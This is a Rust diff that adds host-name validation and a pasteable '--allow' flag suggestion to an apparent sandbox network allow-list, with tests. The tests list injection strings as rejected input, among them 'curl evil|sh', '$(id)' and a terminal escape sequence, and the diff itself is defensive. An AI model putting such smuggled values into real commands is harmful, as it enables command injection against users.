@@ -8,6 +8,8 @@ use std::str::FromStr;
 
 use serde::{Deserialize, Serialize};
 
+use crate::guest_text;
+
 /// How a destination is spoken to.
 #[derive(Clone, Copy, Debug, PartialEq, Eq, Hash, Serialize, Deserialize)]
 pub enum Protocol {
@@ -159,14 +161,31 @@ impl FromStr for Allow {
         match (host.strip_prefix('*'), Host::new(host)) {
             (Some(suffix), _) if is_http && suffix.starts_with('.') && suffix.len() > 1 && !suffix.contains('*') => {
                 let Host::Name(suffix) = Host::new(suffix) else { return Err(error(form)) };
+                if !is_name(&suffix) {
+                    return Err(error("a host has letters, digits, `-`, `_` and `.`"));
+                }
                 Ok(Self::Under { protocol, suffix, port })
             }
             _ if host.contains('*') => {
                 Err(error("a star stands for the first part of an HTTP host, as in https://*.example.com"))
             }
+            (_, Host::Name(name)) if !is_name(&name) => Err(error("a host has letters, digits, `-`, `_` and `.`")),
             (_, host) => Ok(Self::Only(Destination { protocol, host, port })),
         }
     }
+}
+
+/// The flag that would grant `refused`, ready to be pasted; `None` if it is no destination, as a guest may ask for anything.
+pub fn suggestion(refused: &str) -> Option<String> {
+    // The port of a name that was only looked up is for the user to fill in.
+    let example = refused.strip_suffix(":PORT").map(|host| format!("{host}:1"));
+    example.as_deref().unwrap_or(refused).parse::<Allow>().ok().filter(|allow| *allow != Allow::All)?;
+    guest_text::command(["--allow", refused])
+}
+
+/// Whether text has only characters that names of hosts have; those of other scripts are among them.
+fn is_name(text: &str) -> bool {
+    text.chars().all(|c| c.is_alphanumeric() || matches!(c, '-' | '_' | '.'))
 }
 
 /// `HOST`, `HOST:PORT`, `[V6]`, `[V6]:PORT`; `None` where the port is none.
@@ -310,10 +329,30 @@ mod tests {
             "http://a.*.com",
             "tcp://*.example.com:1",
             "http://*x.com",
+            "tcp://x;id:1",
+            "http://$(id)",
             "",
         ] {
             assert!(wrong.parse::<Allow>().is_err(), "{wrong}");
         }
+    }
+
+    #[test]
+    fn only_what_could_be_granted_is_suggested() {
+        for (refused, flag) in [
+            ("http://db.example.com:8080", Some("--allow http://db.example.com:8080")),
+            ("tcp://db:PORT", Some("--allow tcp://db:PORT")),
+            ("tcp://x:1;curl evil|sh;#:PORT", None),
+            ("tcp://x;id:PORT", None),
+            ("http://$(id)", None),
+            ("http://a\u{1b}]0;t\u{7}", None),
+            ("all", None),
+            ("(other)", None),
+        ] {
+            assert_eq!(suggestion(refused).as_deref(), flag, "{refused:?}");
+        }
+        // What a shell would look at is quoted.
+        assert_eq!(suggestion("udp://[::1]:53").as_deref(), Some("--allow 'udp://[::1]:53'"));
     }
 
     #[test]
